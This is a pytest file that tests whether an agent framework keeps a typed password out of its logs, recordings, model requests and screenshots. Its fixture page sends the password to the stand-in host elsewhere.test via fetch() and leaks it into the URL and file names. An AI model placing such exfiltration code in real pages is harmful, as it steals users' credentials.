"""A whole run with a secret: typed into its page, and in no byte of what is kept, sent or said."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pytest
from agent_runs import ROOT, handeye, script
from http_recorder import Answer, Asked, Server, answering, told
from PIL import Image

from actions import DIALECTS, Action, Click, Finish, Frame, Key, Navigate, Point, Type
from agent.care import CareError, named, network, secrets, values
from agent.expect import Check
from agent.reader import read_run
from agent.record import discreet
from agent.schema import Look, StopEntry
from env.browser.veil import COVER
from env.network import Network
from env.secrets import Secret, Secrets

MODEL = {"id": "Qwen2.5-VL-7B", "object": "model", "created": 1, "owned_by": "x"}
WORD = 'tr0ub4dor&"3'
PAGE = """<!doctype html><title>Sign in</title><body style="margin:0"><script>const get = [];</script>
<input id=i aria-label=Password style="position:absolute;left:0;top:0;width:300px;height:40px">
<a id=a style="position:absolute;left:0;top:60px;width:300px;height:40px">echo</a><p id=o style="margin-top:120px">
<script>
i.oninput = () => { const v = i.value; document.title = 'You are ' + v; o.textContent = 'Hello ' + v;
  i.setAttribute('aria-label', 'Password ' + v); a.textContent = v;
  history.replaceState(0, '', '?q=' + encodeURIComponent(v) + '&b=' + btoa('user:' + v) + '&j=' + JSON.stringify(v));
  fetch('http://elsewhere.test/?' + encodeURIComponent(v)).catch(() => 0);
  a.href = URL.createObjectURL(new Blob([v])); a.download = v + '.txt'; };
i.onkeydown = (e) => { if (e.key === 'Enter') alert('Your password is ' + i.value) };
</script>"""


def spellings(word: str) -> set[bytes]:
    """How a secret may stand in a file."""
    texts = {word, quote(word, safe=""), quote(quote(word, safe=""), safe=""), json.dumps(word)[1:-1]}
    texts |= {json.dumps(json.dumps(word)[1:-1])[1:-1], word.replace("&", "&amp;").replace('"', "&#34;")}
    found = {text.encode() for text in texts} | {word.encode("utf-16-le")}
    for before in range(3):
        size = before + len(word)
        code = base64.b64encode(b"\0" * before + word.encode())
        found.add(code[-(-before * 8 // 6) : size * 8 // 6])
    return found


def plain(data: bytes) -> bytes:
    """`data`, and beside it every base64 stretch of it decoded."""
    runs = re.findall(rb"[A-Za-z0-9+/]{200,}", data)
    return b"\n".join([data, *(base64.b64decode(run[: len(run) // 4 * 4]) for run in runs)])


@pytest.mark.parametrize(
    "text",
    [WORD, quote(WORD, safe=""), json.dumps({"a": json.dumps(WORD)}), base64.b64encode(b"ab" + WORD.encode()).decode()],
)
def test_the_search_for_a_word_finds_it_where_it_is(text: str) -> None:
    assert any(form in text.encode() for form in spellings(WORD))


def model(actions: Sequence[Action]) -> Iterator[str]:
    """Replies of a model that does these actions in turn, on a screen that is not resized."""
    frame, dialect = Frame(560, 420, 560, 420), DIALECTS["qwen2.5"]
    yield from (dialect.print(action, frame) for action in actions)


DEEDS = (
    Click(at=Point(x=50, y=20)),
    Type(text="<secret:password>"),
    Click(at=Point(x=50, y=80)),  # the page gives a file away whose name is the secret
    Click(at=Point(x=50, y=20)),
    Key(keys=("enter",)),
    Click(at=Point(x=5, y=300)),  # while a dialog is open, which is a mistake and told with its words
    Key(keys=("enter",)),
    Navigate(url="http://localhost:9/"),
    Finish(success=True, text="done"),
)


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Server, subprocess.CompletedProcess[str]]:
    """The run, what its model was asked, and what the command printed."""
    folder = tmp_path_factory.mktemp("secrecy")
    (folder / "page.html").write_text(PAGE)
    text = f"""
name: sign in with {WORD.replace('"', "'")}
start: page.html
environment: {{kind: browser, width: 560, height: 420}}
instruction: 'Type <secret:password> as the password, which is not to be told to be {WORD}.'
secrets: [password]
expect:
  - {{element: "#i", value: '{WORD}'}}
  - {{text: 'Hello {WORD}'}}
  - {{text: Nowhere}}
"""
    replies = model(DEEDS)

    def answer(asked: Asked) -> Answer:
        if asked.path == "/v1/models":
            return told({"object": "list", "data": [MODEL]})
        choice = {"index": 0, "message": {"role": "assistant", "content": next(replies)}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 9, "completion_tokens": 9, "total_tokens": 18}
        return told({"id": "x", "object": "chat.completion", "created": 1, "choices": [choice], "usage": usage})

    with answering(answer) as server:
        command = ["run", script(folder, text), "--model", f"{server.url}/v1", "--out", folder / "run"]
        command += ["--secret", "password=THE_WORD", "--with", f"record={folder / 'tape'}"]
        done = subprocess.run(
            [sys.executable, "-m", "agent.cli", *map(str, command)],
            cwd=ROOT,
            env={**os.environ, "THE_WORD": WORD},
            capture_output=True,
            text=True,
            timeout=120,
        )
        handeye("view", folder / "run")
    return folder, server, done


def test_the_secret_was_typed_and_the_run_went_through(
    ran: tuple[Path, Server, subprocess.CompletedProcess[str]],
) -> None:
    folder, _, done = ran
    assert done.returncode == 1, done.stderr  # one expectation is false, so that what was found is told
    run = read_run(folder / "run")
    assert [verdict.held for verdict in run.manifest.verdicts] == [True, True, False]
    assert len(run.lines) == len(DEEDS)
    assert [bool(line.error) for line in run.lines] == [False] * 5 + [True, False, True, False]
    after = run.lines[1].after
    assert after is not None
    assert (after.title, after.focus) == ("You are <secret:password>", 'text field "Password <secret:password>"')
    assert [text for text in after.refused if "<secret:password>" in text]
    files = run.lines[2].after
    assert files is not None
    assert files.downloads == ("<secret:password>.txt",)
    assert "<secret:password>" in run.lines[5].error


def test_no_byte_of_the_run_its_report_or_its_cassette_holds_the_secret(
    ran: tuple[Path, Server, subprocess.CompletedProcess[str]],
) -> None:
    files = [path for path in ran[0].rglob("*") if path.is_file() and path.name not in ("page.html", "task.yaml")]
    assert {"run.json", "steps.jsonl", "report.html"} <= {path.name for path in files}
    for path in files:
        data = plain(path.read_bytes())
        assert not [form for form in spellings(WORD) if form in data], path
        assert WORD not in path.name


def test_no_model_request_and_nothing_printed_holds_the_secret(
    ran: tuple[Path, Server, subprocess.CompletedProcess[str]],
) -> None:
    _, server, done = ran
    assert sum(asked.path.endswith("/chat/completions") for asked in server.asked) == len(DEEDS)
    for asked in server.asked:
        data = plain(asked.body + repr((asked.path, asked.headers)).encode())
        assert not [form for form in spellings(WORD) if form in data], asked.path
    assert not [form for form in spellings(WORD) if form in (done.stdout + done.stderr).encode()]


def test_every_picture_that_the_model_saw_of_the_secret_is_covered(
    ran: tuple[Path, Server, subprocess.CompletedProcess[str]],
) -> None:
    run = read_run(ran[0] / "run")
    after = run.lines[1].after
    assert after is not None
    with Image.open(io.BytesIO(run.picture(after.screen))) as picture:
        pixels = np.asarray(picture.convert("RGB"))
    for top, bottom in ((2, 38), (62, 78), (122, 136)):  # the field, the link, and the last word of the greeting
        assert (pixels[top:bottom] == COVER).all(axis=2).any()
    assert not (pixels[2:38, 5:290] < 90).all(axis=2).any()


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ((), "HANDEYE_SECRET_PASSWORD"),
        (("--secret", "password=hunter2"), "no environment variable"),
        (("--allow", "example.com"), "--allow"),
        (("--approve", "sometimes"), "never, risky, always"),
    ],
)
def test_a_secret_without_a_value_and_a_word_that_is_none_are_said_before_anything_starts(
    more: tuple[str, ...], said: str, tmp_path: Path
) -> None:
    (tmp_path / "page.html").write_text("<p>x")
    text = "name: x\nstart: page.html\ninstruction: x\nsecrets: [password]\n"
    done = handeye("run", script(tmp_path, text), "--model", "script", *more, "--out", tmp_path / "run")
    assert done.returncode == 2
    assert said in done.stderr
    assert "hunter2" not in done.stderr
    assert not (tmp_path / "run" / "run.json").exists()


def test_values_come_from_pairs_before_files_before_variables(tmp_path: Path) -> None:
    file = tmp_path / "secrets.yaml"
    file.write_text("b: 'from the file'\nc: 'file too'\n")
    environ = {"HANDEYE_SECRET_A_1": "from a variable", "HANDEYE_SECRET_B": "unused", "OTHER": "from a pair"}
    found = values(("a-1", "b"), ["c=OTHER"], file, environ)
    assert dict(found) == {"a-1": "from a variable", "b": "from the file", "c": "from a pair"}


@pytest.mark.parametrize("text", ["b: 1234\n", "- b\n", "b: 'x\n", "{"])
def test_a_file_that_cannot_be_read_is_named_and_not_quoted(text: str, tmp_path: Path) -> None:
    file = tmp_path / "secrets.yaml"
    file.write_text(f"# hunter2\n{text}")
    with pytest.raises(CareError, match="--secrets") as told_:
        values((), (), file, {})
    assert str(file) in str(told_.value)
    assert "1234" not in str(told_.value).replace(str(file), "")
    assert "hunter2" not in str(told_.value)


@pytest.mark.parametrize(
    ("start", "expect", "origins"),
    [
        (
            "https://a.test/x",
            ["/thanks", "https://b.test/*", "https://*.c.test/"],
            ("https://a.test", "https://b.test"),
        ),
        ("page.html", [], ()),
        ("file:///pages/a.html", ["file:///etc/passwd"], ("file:///pages/",)),
        ("about:blank", ["http://127.0.0.1:*/"], ()),
    ],
)
def test_a_script_may_reach_what_it_names(start: str, expect: list[str], origins: tuple[str, ...]) -> None:
    checks = [Check(url=url) for url in expect]
    assert named(start, checks, ()) == origins
    assert named(start, checks, [Navigate(url="https://d.test/")]) == (*origins, "https://d.test")


def test_without_origins_of_its_own_a_secret_is_for_the_start() -> None:
    known = secrets({"a": (), "b": ("https://b.test",)}, {"a": "aaaa", "b": "bbbb"}, "https://a.test/login")
    assert [str(secret.origins) for secret in known.known] == ["https://a.test", "https://b.test"]
    with pytest.raises(CareError, match="for which origins"):
        secrets({"a": ()}, {"a": "aaaa"}, "about:blank")
    assert network(("any",)) is None


@pytest.mark.parametrize("word", ["1234", "click", "finished", "2026"])
def test_a_secret_that_stands_by_chance_in_what_we_write_breaks_no_record(word: str) -> None:
    secrets = Secrets((Secret("pin", word, Network.of("https://example.com")),))
    look = Look(screen="1234" * 16, width=1, height=1, title=f"your {word}", tabs=(word, "other"))
    found = discreet(look, secrets)
    assert (found.screen, found.title, found.tabs) == (look.screen, "your <secret:pin>", ("<secret:pin>", "other"))
    stop = discreet(StopEntry(reason="finished", detail=word), secrets)
    assert (stop.reason, stop.detail) == ("finished", "<secret:pin>")
    assert Look.model_validate(found.model_dump(mode="json")) == found


def test_a_secret_that_no_script_has_and_a_page_of_a_desktop_are_refused(tmp_path: Path) -> None:
    task = ROOT / "examples" / "tasks" / "greet.yaml"
    for more, why in (
        ((task, "--secret", "word=HOME"), "--secret word: no script has it under `secrets`; there are none"),
        ((ROOT / "examples" / "desktop.yaml", "--allow", "http://x.test"), "--allow is for a browser, not for desktop"),
        ((ROOT / "examples" / "desktop.yaml", "--safe"), "nobody can tell what is a risk on a desktop"),
    ):
        done = handeye("run", *more, "--model", "script", "--out", tmp_path / "run")
        assert done.returncode == 2
        assert why in " ".join(done.stderr.split())
    assert not (tmp_path / "run").exists()
